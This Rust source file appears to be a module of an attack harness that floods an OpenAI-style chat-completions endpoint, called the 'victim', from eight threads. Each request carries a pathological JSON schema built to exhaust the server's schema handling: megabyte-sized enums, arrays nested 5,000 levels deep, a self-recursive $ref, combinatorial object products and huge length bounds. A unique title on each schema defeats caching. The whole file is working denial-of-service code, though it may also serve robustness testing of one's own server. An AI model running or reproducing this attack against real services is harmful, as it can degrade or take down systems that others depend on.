//! Attacks by forms of answers: JSON schemas that are large, deep, endless or new each time.

use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;

use super::victim::{Victim, list};

const JSON: &str = "application/json";
/// Largest schema, in bytes.
const LARGE: usize = 1 << 20;

/// Schema of an object with a field of each index.
fn object(fields: usize, schema: impl Fn(usize) -> String) -> String {
    let properties: Vec<_> = (0..fields).map(|index| format!(r#""field{index}":{}"#, schema(index))).collect();
    let names: Vec<_> = (0..fields).map(|index| format!(r#""field{index}""#)).collect();
    let (properties, names) = (properties.join(","), names.join(","));
    format!(r#"{{"type":"object","properties":{{{properties}}},"required":[{names}],"additionalProperties":false}}"#)
}

/// Schemas that take long to read, by their number.
fn hard_schema(number: usize) -> String {
    match number % 7 {
        // A value of a megabyte.
        0 => format!(r#"{{"type":"string","enum":[{}]}}"#, list(r#""aaaa bbbb cccc""#, LARGE / 17)),
        1 => format!(r#"{{"type":"string","const":"{}"}}"#, "a\u{e9}".repeat(LARGE / 3)),
        // Deep, and without an end.
        2 => format!(r#"{}{{"type":"null"}}{}"#, r#"{"type":"array","items":"#.repeat(5_000), "}".repeat(5_000)),
        3 => r##"{"$ref":"#/$defs/a","$defs":{"a":{"anyOf":[{"$ref":"#/$defs/a"},{"$ref":"#/$defs/a"}]}}}"##.to_owned(),
        // A product of choices.
        4 => object(300, |index| {
            let values: Vec<_> = (0..60).map(|value| format!(r#""choice {index} {value}""#)).collect();
            format!(r#"{{"enum":[{}]}}"#, values.join(","))
        }),
        5 => {
            let nested =
                |_| object(40, |_| r#"{"anyOf":[{"type":"string"},{"type":"number"},{"type":"null"}]}"#.to_owned());
            object(40, nested)
        }
        _ => r#"{"type":"array","minItems":100000,"maxItems":1000000,"items":{"type":"string","minLength":100000}}"#
            .to_owned(),
    }
}

/// Chat completions and functions with hard schemas, no two of them equal.
pub fn schemas(victim: &Victim) -> Result<()> {
    let asked = AtomicUsize::new(0);
    victim.repeat(8, |victim, thread| {
        let number = asked.fetch_add(1, Ordering::Relaxed);
        // A title is no part of the form, but makes the text of the schema a new one.
        let schema = format!(r#"{{"title":"{number}","allOf":[{}]}}"#, hard_schema(number));
        let schema = if number.is_multiple_of(2) { hard_schema(number) } else { schema };
        let message = r#"{"role":"user","content":"What is three plus four?"}"#;
        let form = if thread.is_multiple_of(2) {
            format!(
                r#""response_format":{{"type":"json_schema","json_schema":{{"name":"n{number}","schema":{schema}}}}}"#
            )
        } else {
            let function = format!(r#"{{"name":"f{number}","parameters":{schema}}}"#);
            format!(r#""tools":[{{"type":"function","function":{function}}}],"tool_choice":"required""#)
        };
        let body = format!(r#"{{"messages":[{message}],"modalities":["text"],"max_tokens":200,{form}}}"#);
        victim.post("/v1/chat/completions", JSON, body.as_bytes()).map(drop)
    });
    Ok(())
}
